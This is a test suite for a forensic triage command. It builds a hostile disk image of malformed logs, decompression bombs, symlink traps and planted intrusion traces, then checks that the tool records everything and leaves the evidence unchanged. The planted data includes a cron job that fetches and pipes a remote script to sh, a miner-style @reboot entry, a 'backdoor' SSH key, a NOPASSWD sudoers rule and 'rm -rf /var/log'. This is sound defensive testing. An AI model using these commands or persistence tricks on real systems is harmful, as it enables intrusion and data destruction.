"""A disk whose every log and setting is an attack, through the command as a user runs it.

What is sound around the damage must all be there, the run must end with an honest status and the evidence unchanged.
"""

import base64
import bz2
import gzip
import json
import lzma
import os
import struct
import subprocess
import sys
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
import zstandard
from story_disks import digest

LINE = b"%s web sshd[%d]: Accepted password for alice from 203.0.113.%d port %d ssh2\n"
RECORD = struct.Struct("<h2xi32s4s32s256shhiii16s20x")
KEY = base64.b64encode(struct.pack(">I11sI32s", 11, b"ssh-ed25519", 32, bytes(range(32))))
MODIFIED = 1_763_287_200  # 2025-11-16 10:00 UTC
EXBIBYTE = 1 << 60
INJECTED = b"a from 1.2.3.4 port 1 ssh2"
SECONDS = 180


def accepted(stamp: bytes, count: int, first: int = 0) -> bytes:
    return b"".join(LINE % (stamp, number, number % 250, 1024 + number) for number in range(first, first + count))


def login(kind: int, user: bytes, seconds: int) -> bytes:
    return RECORD.pack(kind, 77, b"pts/0", b"ts/0", user, b"198.51.100.7", 0, 0, 1, seconds, 5, b"")


def auth_logs(log: Path) -> None:
    """Write auth.log and its rotated files: sound lines between attacks."""
    hostile = [
        b"Nov 16 10:00:00 web sshd[1]: Failed password for invalid user %s from 9.9.9.9 port 5 ssh2\n" % INJECTED,
        b"Nov 16 10:00:00 web sshd[1]: Invalid user \x1b[2J\xff\xfe from 1.2.3.4 port 99999999999999999999\n",
        b"Nov 16 10:00:00 web sshd[1]: Accepted publickey for x from 1.2.3.4 port 1 ssh2: RSA aa:bb:cc:dd\n",
        b"Nov 16 10:00:00 web sshd[1]: Accepted publickey for \n",
        b"message without a stamp\n",
        b"\0" * 700 + b"\n",
        b"x" * (3 << 20) + b"\n",
        b"Nov 16 10:00:00 web sshd[1]: " + b" " * 200_000 + b"\n",
        b"Nov 16 10:00:00 web sshd[1]: " + b"1.1." * 100_000 + b"\n",
        b"Nov 99 99:99:99 web sshd[1]: Accepted password for eve from 1.2.3.4 port 1 ssh2\n",
        b"9999-99-99T99:99:99.999999+99:99 web sshd[1]: Accepted password for eve from 1.2.3.4 port 1 ssh2\n",
    ]
    parts = [accepted(b"Nov 16 10:00:00", 10, number * 10) + attack for number, attack in enumerate(hostile)]
    (log / "auth.log").write_bytes(b"".join(parts) + accepted(b"2025-11-16T10:00:00.5-05:00", 10, 5000))
    (log / "auth.log.1").write_bytes(accepted(b"Dec 31 23:59:59", 5) + accepted(b"Jan  1 00:00:00", 5))
    (log / "auth.log.2").write_bytes(accepted(b"Feb 29 12:00:00", 5) + accepted(b"Feb 30 12:00:00", 2))
    packed = bytearray(gzip.compress(accepted(b"Nov  1 10:00:00", 20_000), mtime=0))
    packed[-100:] = b"\xff" * 100
    (log / "auth.log.3.gz").write_bytes(bytes(packed))
    (log / "auth.log.4.gz").write_bytes(gzip.compress(bytes(300 << 20), 9, mtime=0))
    (log / "auth.log.5.bz2").write_bytes(bz2.compress(accepted(b"Nov  2 10:00:00", 50)))
    (log / "auth.log.6.xz").write_bytes(lzma.compress(accepted(b"Nov  3 10:00:00", 50))[:-5])
    (log / "auth.log.7.zst").write_bytes(zstandard.compress(accepted(b"Nov  4 10:00:00", 50)) + b"\0" * 777)
    (log / "auth.log.8.gz").write_bytes(accepted(b"Nov  5 10:00:00", 50))
    (log / "auth.log.9").write_bytes(gzip.compress(b"", mtime=0) + accepted(b"Nov  6 10:00:00", 50))
    (log / "auth.log.10").write_bytes(b"\xff\xfe" * 500_000 + b"\n" + b"\xff" * 60_000 + b"\n" * 3)
    (log / "auth.log.11").write_bytes(b"".join(b"\xff" * 60_000 + b"\n" for _ in range(300)))
    (log / "auth.log.12").symlink_to("/dev/null")
    (log / "auth.log.13").symlink_to("auth.log.13")
    (log / "auth.log.14").symlink_to("../../../../../../../../etc/shadow-of-the-examiner")
    os.mkfifo(log / "auth.log.15")
    sparse = log / "auth.log.16"
    sparse.write_bytes(accepted(b"Nov  7 10:00:00", 25))
    with sparse.open("r+b") as file:
        file.seek(1 << 40)
        file.write(accepted(b"Nov  8 10:00:00", 25, 25))


def login_databases(log: Path) -> None:
    good = [login(7, b"alice", MODIFIED - 60 * number) for number in range(40)]
    (log / "wtmp").write_bytes(b"".join(good[:20]) + b"\xa5" * 384 * 3 + b"".join(good[20:]) + b"cut")
    (log / "btmp").write_bytes(good[0] + bytes(384 * 2) + b"".join(good[1:]))
    lastlog = log / "lastlog"
    lastlog.write_bytes(b"")
    with lastlog.open("r+b") as file:
        for number in (0, 1000, 3_000_000_000):
            file.seek(number * 292)
            file.write(struct.pack("<I32s256s", MODIFIED, b"pts/0", b"198.51.100.7"))
        file.truncate(292 << 32)


def settings(root: Path) -> None:
    etc = root / "etc"
    os_release = b'NAME="Debian \xff GNU"\nPRETTY_NAME="Debian\x1b[31m 12"\nVERSION_ID=' + b"9" * 4000 + b"\n"
    (etc / "os-release").write_bytes(os_release)
    (etc / "hostname").write_bytes(b"h" * (1 << 20))
    (etc / "timezone").write_bytes(b"../../etc/passwd\n")
    (etc / "localtime").symlink_to("../../etc/passwd")
    (etc / "fstab").write_bytes(
        b"\0\0\n" + b"x" * 100_000 + b"\nUUID=gone / ext4\n/dev/sda1 /a/../../.. ext4 x 0 0\n# c\n"
    )
    passwd = [b"root:x:0:0:root:/root:/bin/bash", b"alice:x:1000:1000::/home/alice:/bin/bash"]
    passwd += [
        b"big:x:99999999999999999999:1::/b:/bin/sh",
        b"nul\0:x:1:1::/n\0:/bin/sh",
        b":::::",
        b"short",
        b"x" * 70_000,
    ]
    passwd += [b"up:x:5:5::/home/alice/../../../..:/bin/sh", b"last:x:1001:1001::/home/last:/bin/sh"]
    (etc / "passwd").write_bytes(b"\n".join(passwd) + b"\n")
    (etc / "shadow").write_bytes(
        b"root:$6$salt$hash:19000:0:99999:7:::\nalice:!:99999999999999999999::::::\n\xff\xff\n"
    )
    (etc / "group").write_bytes(b"root:x:0:\nsudo:x:27:" + b"a," * 5000 + b"\nbad\n")
    (etc / "crontab").write_bytes(b"PATH=/bin\n* * * * * root /bin/true\n@reboot root /tmp/.x/run -o pool -u w -k\n")
    cron = root / "var/spool/cron/crontabs"
    cron.mkdir(parents=True)
    job = b"*/2 * * * * curl -fsSL http://198.51.100.9/i.sh | sh"
    dump = b"REDIS0011\xfa\tredis-ver\x057.0.0\n\n\n" + job + b"\n\n\n\xff\x00\x01\x02"
    (cron / "root").write_bytes(dump)
    ssh = etc / "ssh"
    (ssh / "sshd_config.d").mkdir(parents=True)
    (ssh / "sshd_config").write_bytes(
        b"Include /etc/ssh/sshd_config\nInclude /etc/ssh/sshd_config.d/*.conf\nInclude /etc/ssh/loop*\nPort 22\n"
        b"AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n"
        + b"".join(b"Include /*/*/*/*/x%d\n" % number for number in range(400))
    )
    (ssh / "loop1").write_bytes(b"Include /etc/ssh/loop2\nInclude /**/loop1\n")
    (ssh / "loop2").write_bytes(b"Include /etc/ssh/loop1\nAuthorizedKeysFile /etc/ssh/hidden\n")
    (ssh / "hidden").write_bytes(b"ssh-ed25519 " + KEY + b" backdoor\n")
    (ssh / "keys").mkdir()
    (ssh / "keys/alice").write_bytes(b'command="x",no-pty ssh-ed25519 ' + KEY + b" a\nssh-rsa !!!broken!!!\n\xff\n")
    (etc / "sudoers.d").mkdir()
    (etc / "sudoers").write_bytes(b"root ALL=(ALL) ALL\n@includedir /etc/sudoers.d\nalice ALL=\\\n NOPASSWD: \\\n")
    (etc / "sudoers.d/self").write_bytes(
        b"@include /etc/sudoers\n#includedir /etc/sudoers.d\neve ALL=(ALL) NOPASSWD: ALL\n"
    )


def homes(root: Path) -> None:
    alice, gone, bob = root / "home/alice", root / "srv/gone", root / "home/bob"
    for home in (alice, gone, bob):
        home.mkdir(parents=True)
    stamps = b"#99999999999999999999\nls\n#-5\nid\n#1763287200\nuname\n#\n\xff\xfebinary\n"
    (alice / ".bash_history").write_bytes(stamps)
    (alice / ".zsh_history").write_bytes(b": 1763287200:0;one\\\ntwo\n: 999999999999999999999:0;bad\n: x:y;z\n")
    (gone / ".bash_history").write_bytes(b"rm -rf /var/log\n")
    (bob / ".bash_history").symlink_to("/dev/null")
    (bob / ".zsh_history").mkdir()
    (bob / ".python_history").write_bytes(b"")


def tree(folder: Path) -> Path:
    root = folder / "root"
    for name in ("etc", "usr", "bin", "srv", "data/log"):
        (root / name).mkdir(parents=True)
    (root / "var").mkdir()
    (root / "var/log").symlink_to("/data/log")
    auth_logs(root / "data/log")
    login_databases(root / "data/log")
    settings(root)
    homes(root)
    for path in [*root.rglob("*"), root]:
        os.utime(path, (MODIFIED, MODIFIED), follow_symlinks=False)
    return root


def make_ext4(image: Path, root: Path, mebibytes: int, *commands: str) -> Path:
    """Make an ext4 image of a tree without root, then change it with debugfs."""
    with image.open("wb") as file:
        file.truncate(mebibytes << 20)
    make = ["mke2fs", "-q", "-t", "ext4", "-O", "^has_journal", "-d", str(root), str(image)]
    subprocess.run(make, check=True, capture_output=True)
    change = ["debugfs", "-w", "-f", "-", str(image)]
    subprocess.run(change, check=True, capture_output=True, input="\n".join(commands).encode())
    return image


class Case:
    """What a run of the command left, with what it said."""

    def __init__(self, image: Path, folder: Path) -> None:
        """Triage the image into a new case."""
        self.before = digest(image)
        self.run = self.volforensic("triage", str(image), "--case", str(folder), "--progress", "none")
        self.after = digest(image)
        self.folder = folder

    @staticmethod
    def volforensic(*arguments: str) -> subprocess.CompletedProcess[str]:
        """Run the command."""
        command = [sys.executable, "-m", "volforensic", *arguments]
        environment = {**os.environ, "NO_COLOR": "1", "VOLFORENSIC_DEBUG": "1"}
        return subprocess.run(command, capture_output=True, text=True, check=False, timeout=SECONDS, env=environment)

    @property
    def evidence(self) -> Path:
        """The folder of the one evidence item."""
        (folder,) = (self.folder / "evidence").iterdir()
        return folder

    def rows(self, name: str) -> list[dict[str, Any]]:
        """Return the rows of a stream."""
        path = self.evidence / name
        if path.suffix == ".zst":
            with path.open("rb") as file, zstandard.open(file, "rb") as stream:
                return [json.loads(line) for line in stream.read().splitlines()]
        return [json.loads(line) for line in path.read_bytes().splitlines()]

    def records(self, artifact: str, source: str = "") -> list[dict[str, Any]]:
        """Return an artifact's records, of one file where it is given."""
        rows = self.rows(f"records/{artifact}.jsonl.zst")
        return [row for row in rows if not source or row["source"] == source]

    def problems(self, source: str) -> list[str]:
        """Return what was said of a file."""
        return [row["reason"] for row in self.rows("problems.jsonl") if row.get("source") == source]


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Case:
    folder = tmp_path_factory.mktemp("hostile")
    image = make_ext4(
        folder / "disk.raw",
        tree(folder),
        128,
        f"sif /etc/os-release size {EXBIBYTE}",
        "cd /data/log",
        "mknod auth.log.17 c 1 5",
        "mknod auth.log.18 b 8 0",
        "mkdir secure",
    )
    return Case(image, folder / "case")


def test_it_ends_honestly_and_the_evidence_is_what_it_was(case: Case) -> None:
    assert case.run.returncode == 3, case.run.stdout + case.run.stderr
    assert "\x1b" not in case.run.stdout + case.run.stderr
    assert case.before == case.after
    assert Case.volforensic("verify", str(case.folder)).returncode == 0


@pytest.mark.parametrize(
    ("name", "count"),
    [
        ("auth.log", 120),
        ("auth.log.1", 10),
        ("auth.log.2", 7),
        ("auth.log.5.bz2", 50),
        ("auth.log.6.xz", 50),
        ("auth.log.7.zst", 50),
        ("auth.log.8.gz", 50),
        ("auth.log.9", 50),
        ("auth.log.16", 50),
    ],
)
def test_every_sound_line_is_there_once(case: Case, name: str, count: int) -> None:
    sound = [row["pid"] for row in case.records("auth_log", f"/data/log/{name}") if row.get("user") == "alice"]
    assert len(sound) == count
    if name not in ("auth.log", "auth.log.1", "auth.log.2"):
        assert len(set(sound)) == count


def test_a_corrupt_tail_costs_itself(case: Case) -> None:
    sound = [row for row in case.records("auth_log", "/data/log/auth.log.3.gz") if row.get("event") == "accepted"]
    assert 19_950 < len(sound) <= 20_000
    assert len(case.problems("/data/log/auth.log.3.gz")) == 1


def test_a_bomb_is_told(case: Case) -> None:
    assert any("the rest was not read" in reason for reason in case.problems("/data/log/auth.log.4.gz"))


def test_nothing_of_the_attacks_is_dropped(case: Case) -> None:
    records = case.records("auth_log", "/data/log/auth.log")
    hostile = [row for row in records if row.get("user") != "alice"]
    assert len(hostile) == 11
    assert [row["remote_address"] for row in hostile if row.get("user") == INJECTED.decode()] == ["9.9.9.9"]
    assert len(case.records("auth_log", "/data/log/auth.log.11")) == 300


def test_years_of_lines_that_name_none(case: Case) -> None:
    stamps = Counter(row["timestamp"][:10] for row in case.records("auth_log", "/data/log/auth.log.1"))
    assert stamps == {"2024-12-31": 5, "2025-01-01": 5}
    leap = [row["timestamp"] for row in case.records("auth_log", "/data/log/auth.log.2")]
    assert leap == ["2024-02-29T12:00:00.000000Z"] * 5 + [None] * 2


def test_what_is_no_file_is_a_record(case: Case) -> None:
    kinds = {
        row["source"].rpartition("/")[2]: row["file_type"] for row in case.records("auth_log") if "file_type" in row
    }
    assert kinds == {
        "auth.log.12": "symlink",
        "auth.log.13": "symlink",
        "auth.log.14": "symlink",
        "auth.log.15": "fifo",
        "auth.log.17": "character_device",
        "auth.log.18": "block_device",
        "secure": "directory",
    }
    history = {row["source"]: row["file_type"] for row in case.records("shell_history") if "file_type" in row}
    assert history == {"/home/bob/.bash_history": "symlink", "/home/bob/.zsh_history": "directory"}


def test_login_databases(case: Case) -> None:
    for name in ("wtmp", "btmp"):
        rows = case.records("logins", f"/data/log/{name}")
        assert sum(row.get("user") == "alice" for row in rows) == 40
    assert any(row.get("suspicious") for row in case.records("logins", "/data/log/btmp"))
    assert [row["uid"] for row in case.records("lastlog")] == [0, 1000, 3_000_000_000]


def test_settings(case: Case) -> None:
    assert {"root", "alice", "last", "up"} <= {row.get("user") for row in case.records("users")}
    assert {"root", "alice"} <= {row.get("user") for row in case.records("shadow")}
    commands = [row.get("command") for row in case.records("cron")]
    assert "/tmp/.x/run -o pool -u w -k" in commands  # noqa: S108 - a command of the evidence
    assert "curl -fsSL http://198.51.100.9/i.sh | sh" in commands
    keys = {(row["source"], row.get("comment")) for row in case.records("authorized_keys") if "fingerprint" in row}
    assert keys == {("/etc/ssh/hidden", "backdoor"), ("/etc/ssh/keys/alice", "a")}
    assert any("globs" in row["reason"] for row in case.rows("problems.jsonl"))
    assert {"root", "eve"} <= {row.get("user") for row in case.records("sudoers")}
    assert len([row for row in case.records("sudoers") if row.get("user") == "eve"]) == 1


def test_histories(case: Case) -> None:
    commands = [row.get("command") for row in case.records("shell_history", "/home/alice/.bash_history")]
    assert commands == ["ls", "id", "uname\n#\n\\xff\\xfebinary"]
    assert [row["command"] for row in case.records("shell_history", "/srv/gone/.bash_history")] == ["rm -rf /var/log"]
    assert "one\ntwo" in [row.get("command") for row in case.records("shell_history", "/home/alice/.zsh_history")]


def test_who_the_host_is(case: Case) -> None:
    host = json.loads((case.evidence / "evidence.json").read_bytes())["host"]
    assert host["hostname"] == "h" * 253
    assert host["os"].startswith("Debian")
    assert host["time_zone_basis"].startswith("UTC")
    assert any("/etc/localtime" in row["reason"] for row in case.rows("problems.jsonl"))


def test_the_files_behind_the_records_are_kept(case: Case) -> None:
    extracted = {row["path"]: row for row in case.rows("extracted.jsonl")}
    for path, row in extracted.items():
        kept = case.evidence / "extracted" / row["sha256"]
        assert digest(kept) == row["sha256"], path
    assert "/data/log/auth.log.16" not in extracted
    assert "/home/bob/.python_history" in extracted
    assert any("not extracted" in reason for reason in case.problems("/data/log/auth.log.16"))


def test_a_second_run_gives_the_same_bytes(case: Case, tmp_path: Path) -> None:
    again = Case(case.folder.parent / "disk.raw", tmp_path / "case")
    for path in sorted((case.evidence / "records").iterdir()):
        assert path.read_bytes() == (again.evidence / "records" / path.name).read_bytes(), path.name
